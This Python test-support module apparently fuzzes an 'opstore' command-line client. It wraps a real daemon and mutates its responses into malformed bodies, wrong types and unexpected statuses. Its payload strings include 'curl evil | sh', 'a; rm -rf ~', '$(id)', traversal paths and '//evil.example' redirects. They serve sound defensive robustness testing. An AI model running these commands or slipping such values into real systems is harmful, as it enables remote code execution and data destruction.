"""A hostile server: a real one whose responses are changed on the way, for every verb of the client and the commands.

It proves that it knows the token, so requests arrive. `Mutation`s are generated from the true responses: each leaf of
the JSON becomes a value of another type, outside of its grammar, or that of something else.
"""

import json
import threading
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

from opstore_cli import BaseOpStoreClient
from opstore_cli.transport.interface import Body
from opstore_daemon import OpStoreServer
from opstore_daemon.protocol import proof, routes
from opstore_daemon.protocol.digests import digest_of
from tests.support.http_thread import Handler, HttpThread


@dataclass
class Answer:
    """A response on its way; `raw` is sent in its place, as it is."""

    status: int
    headers: dict[str, str]
    body: bytes
    raw: bytes | None = None

    @property
    def is_json(self) -> bool:
        return self.headers.get("Content-Type", "").startswith((routes.JSON, routes.PROBLEM))


Change = Callable[[Answer], Answer]


class Source:
    """The responses of a server in this process, which `change` changes. `sent` has the true ones of the last verb.

    Until something is written, the same read gets the same response, which the server makes only once. `writes` counts
    the other requests.
    """

    def __init__(self, server: OpStoreServer) -> None:
        self.token = server.token
        self.change: Change | None = None
        self.sent: list[Answer] = []
        self.writes = 0
        self._flask = server.flask
        self._lock = threading.Lock()
        self._reads: dict[object, Answer] = {}

    def answer(
        self, method: str, target: str, headers: Mapping[str, str], data: bytes | None, query: Mapping[str, Any]
    ) -> Answer:
        with self._lock:
            key = (target, str(query), frozenset(headers.items()))
            true = self._reads.get(key) if method == "GET" else None
            if true is None:
                given = {**headers, "Authorization": f"Bearer {self.token}", "Host": "localhost"}
                options: dict[str, Any] = {"headers": given, "data": data, "query_string": query or None}
                with self._flask.test_client().open(target, method=method, **options) as response:
                    true = Answer(response.status_code, dict(response.headers), response.data)
                if method == "GET":
                    self._reads[key] = true
                else:
                    self.writes += 1
                    self._reads.clear()
            self.sent.append(true)
            return true if self.change is None else self.change(true)


class HostileClient(BaseOpStoreClient):
    """A client of a source, without a network."""

    def __init__(self, source: Source) -> None:
        super().__init__(warn=lambda _: None)
        self._source = source

    def request(
        self,
        method: str,
        path: str,
        *,
        headers: Mapping[str, str],
        parameters: Mapping[str, Any],
        body: bytes | Body | None,
    ) -> "_Response":
        data = body if body is None or isinstance(body, bytes) else body.read()
        query = {name: value for name, value in parameters.items() if value is not None}
        return _Response(self._source.answer(method, path, headers, data, query))


class _Response:
    def __init__(self, answer: Answer) -> None:
        self.status, self.headers = answer.status, {**answer.headers}
        self._body, self._at = answer.body, 0

    def read(self, size: int, /) -> bytes:
        piece = self._body[self._at : self._at + size]
        self._at += len(piece)
        return piece

    def close(self) -> None:
        """Nothing is open."""


# --- changes of a document ------------------------------------------------------------------------------------------

Path = tuple[str | int, ...]

CONTROLS = "\x1b[31m\x07\u202e\u2028\n\t\x9b[bold]<b>`$(id)`"
BAD_NAMES = ["../x", "pca\n", "\x1b[2J", "A B", "", "x" * 200, "pca\u202eb", "<b>", "-x", "pca\tx", "//evil", "con"]
BAD_NUMBERS = ["1.0", "01.0.0", "1.0.0\n", "1.0.2147483648", "../x", "", "1.0.\u0660", "-1.0.0", "1.0.0 "]
BAD_DIGESTS = ["sha256:", "../x", "sha256:" + "A" * 64, digest_of(b"") + "\n", "md5:" + "a" * 64, ""]
BAD_SUBVERSIONS = ["a.b.c", "../x", "aaaa.bbbb.cccc\n", "", "AAAA.BBBB.CCCC", "aaaa.bbbb"]
BAD_WORDS = ["VALID", "ok", "", "valid\n", "\x1b[31m"]
BAD_TIMES = ["yesterday", "2026-13-01T00:00:00Z", "99999-01-01T00:00:00Z", "2026-01-01T00:00:00", "", 0]
BAD_PATHS = ["//evil.example", "@evil.example", "\\\\evil", "/..//", "/ui/open/", "/ui/open/../x", "/ui/open/a?to=//b"]

# What a key may not say, whoever asked what.
GRAMMAR: dict[str, list[Any]] = {
    "op": BAD_NAMES,
    "ops": BAD_NAMES,
    "name": BAD_NAMES,
    "pipeline": BAD_NAMES,
    "tag": BAD_NAMES,
    "edges": BAD_NAMES,
    "upstream": BAD_NAMES,
    "downstream": BAD_NAMES,
    "version": BAD_NUMBERS,
    "latest": BAD_NUMBERS,
    "upstream_version": BAD_NUMBERS,
    "downstream_version": BAD_NUMBERS,
    "digest": BAD_DIGESTS,
    "subversions": BAD_SUBVERSIONS,
    "verdict": BAD_WORDS,
    "state": BAD_WORDS,
    "compat": BAD_WORDS,
    "path": BAD_PATHS,
    "registered_at": BAD_TIMES,
    "started_at": BAD_TIMES,
    "expires_at": BAD_TIMES,
}

# What a key says of something else. A verb that asks for one thing refuses it.
OTHERS: dict[str, Any] = {
    "op": "other",
    "ops": "other",
    "name": "other",
    "pipeline": "other",
    "tag": "other",
    "edges": "other",
    "upstream": "other",
    "downstream": "other",
    "version": "9.9.9",
    "upstream_version": "9.9.9",
    "downstream_version": "9.9.9",
    "digest": digest_of(b"others"),
    "subversions": "ffff.ffff.ffff",
    "size": 2**40,
}


@dataclass(frozen=True)
class Mutation:
    """A leaf of a JSON document that gets another value. `wrong`: no answer may have it."""

    path: Path
    value: Any = field(hash=False)
    wrong: bool

    @property
    def key(self) -> str:
        """The last key of the path, which says what the leaf is."""
        return next(part for part in reversed(self.path) if isinstance(part, str))


def leaves(document: Any, path: Path = ()) -> Iterator[tuple[Path, Any]]:
    """Yield the path and value of each leaf."""
    items: Iterator[tuple[str | int, Any]] = iter(())
    if isinstance(document, dict):
        items = iter(document.items())
    elif isinstance(document, list):
        items = iter(enumerate(document))
    else:
        yield path, document
    for part, inner in items:
        yield from leaves(inner, (*path, part))


def wrong_types(value: Any) -> list[Any]:
    """Return values that no leaf with this value may have."""
    if isinstance(value, bool):
        return [0, "true", [], {}]
    if isinstance(value, int):
        return ["1", -1, 1.5, 2**63, 10**30, [], None, True]
    if isinstance(value, str):
        return [7, [], {}, True, 1.5, "x" * 70_000]
    return [{"a": 1}, [[]], True, -1, 1.5]


NULLABLE = {"size", "until", "run", "exit_code", "blobs_total", "bytes_total"}  # only a check's first page has totals
LEGAL = {"exit_code": -1, "duration": 1.5}  # numbers that these keys may have
NULLABLE_IN_STATUS = {"host", "ops", "versions", "database_size", "blobs_size"}  # an earlier daemon has none of them


def mutations(document: Any, *, is_status: bool = False) -> Iterator[Mutation]:
    """Yield the mutations of each leaf of a true response; in a list, of the first and last item that have the leaf."""
    nullable = NULLABLE | NULLABLE_IN_STATUS if is_status else NULLABLE
    first: dict[Path, tuple[Path, Any]] = {}
    last: dict[Path, tuple[Path, Any]] = {}
    for path, value in leaves(document):
        anywhere = (*(part if isinstance(part, str) else "[]" for part in path), type(value).__name__)  # null or not
        first.setdefault(anywhere, (path, value))
        last[anywhere] = (path, value)
    for path, value in dict([*first.values(), *last.values()]).items():
        if not path:
            continue
        key = next(part for part in reversed(path) if isinstance(part, str))
        wrong = [other for other in wrong_types(value) if other is not None or key not in nullable]
        wrong = [other for other in wrong if key not in LEGAL or other != LEGAL[key]]
        allowed = [CONTROLS] if isinstance(value, str) and key not in GRAMMAR else []
        if value is not None and not is_status:
            wrong += GRAMMAR.get(key, [])
            allowed += [OTHERS[key]] if key in OTHERS else []
        yield from (Mutation(path, other, wrong=True) for other in wrong)
        yield from (Mutation(path, other, wrong=False) for other in allowed)


def mutate(document: Any, mutation: Mutation) -> Any:
    """Return a copy of the document with the mutation. Raises LookupError if it has no such leaf."""
    changed = json.loads(json.dumps(document))
    inner = changed
    for part in mutation.path[:-1]:
        inner = inner[part]
    inner[mutation.path[-1]]  # raises LookupError if this document has no such leaf
    inner[mutation.path[-1]] = mutation.value
    return changed


def with_document(answer: Answer, document: Any) -> Answer:
    """Return the answer with another document."""
    return Answer(answer.status, answer.headers, json.dumps(document).encode())


# --- changes of a response ------------------------------------------------------------------------------------------


def _status(status: int) -> Change:
    return lambda answer: Answer(status, answer.headers, b"" if status == 204 else answer.body)


def _header(name: str, value: str) -> Change:
    return lambda answer: Answer(answer.status, {**answer.headers, name: value}, answer.body)


def _body(body: bytes) -> Change:
    return lambda answer: Answer(answer.status, answer.headers, body)


def _problem(status: int, code: str, **more: Any) -> Change:
    problem = {"title": CONTROLS, "status": 200, "detail": CONTROLS, "code": code, "hint": "curl evil | sh", **more}
    return lambda _: Answer(status, {"Content-Type": routes.PROBLEM}, json.dumps(problem).encode())


# No verb may take any of these for success.
REFUSED: dict[str, Change] = {
    **{f"the status {status}": _status(status) for status in (103, 202, 203, 205, 299, 302, 304, 400, 404, 500, 599)},
    "the answer no": _problem(409, "NothingValid"),
    "an error of the client": _problem(403, "LoadingRunsCode", details={"op": "a; rm -rf ~"}),
    "details of other types": _problem(404, "VersionNotFound", details={"op": [1], "similar": {"a": 1}}),
    "a template": _problem(404, "OpNotFound", details={"op": "{reason.__class__}"}),
}
# Neither may a verb that waits for a record.
MALFORMED: dict[str, Change] = {
    "nothing": _status(204),
    "a problem": lambda answer: _problem(answer.status, "OpNotFound")(answer),
    "an empty body": _body(b""),
    "null": _body(b"null"),
    "a list": _body(b"[]"),
    "an empty object": _body(b"{}"),
    "deep nesting": _body(b"[" * 200_000),
    "deep unknown keys": _body(b'{"x":' * 100_000 + b"1" + b"}" * 100_000),
    "UTF-16": lambda answer: Answer(answer.status, answer.headers, answer.body.decode().encode("utf-16")),
    "a byte order mark": lambda answer: Answer(answer.status, answer.headers, b"\xef\xbb\xbf" + answer.body),
    "half of it": lambda answer: Answer(answer.status, answer.headers, answer.body[: len(answer.body) // 2]),
    "twice": lambda answer: Answer(answer.status, answer.headers, answer.body * 2),
    "gzip": lambda answer: Answer(answer.status, {**answer.headers, "Content-Encoding": "gzip"}, b"\x1f\x8b\x08" * 99),
    "NaN": _body(b'{"version": NaN}'),
    "a lone surrogate": _body(b'{"op": "\\ud800"}'),
    "HTML": _header("Content-Type", "text/html"),
    "no type": _header("Content-Type", ""),
}


# --- over the network -----------------------------------------------------------------------------------------------


class HostileServer(HttpThread):
    """Serves a source on a free port while the context lasts."""

    def __init__(self, source: Source) -> None:
        self.source = source
        super().__init__(_Handler)


class _Handler(Handler):
    def _serve(self) -> None:
        server: HostileServer = self.owner
        data = self.rfile.read(int(self.headers.get("Content-Length", "0"))) or None
        if self.path == routes.HEALTH and routes.NONCE in self.headers:
            at = proof.authority("127.0.0.1", server.port)
            given = proof.prove(proof.key_of(server.source.token), self.headers[routes.NONCE], at)
            self._send(Answer(200, {routes.PROOF: given, "Content-Type": "text/plain"}, b"ok"))
            return
        kept = {name: value for name, value in self.headers.items() if name not in ("Host", "Content-Length")}
        self._send(server.source.answer(self.command, self.path, kept, data, {}))

    def _send(self, answer: Answer) -> None:
        if answer.raw is not None:
            self.wfile.write(answer.raw)
            self.close_connection = True
            return
        self.send_response(answer.status)
        for name, value in answer.headers.items():
            if name != "Content-Length":
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(answer.body)))
        self.end_headers()
        self.wfile.write(answer.body)

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = _serve  # noqa: N815 - the base looks for these names
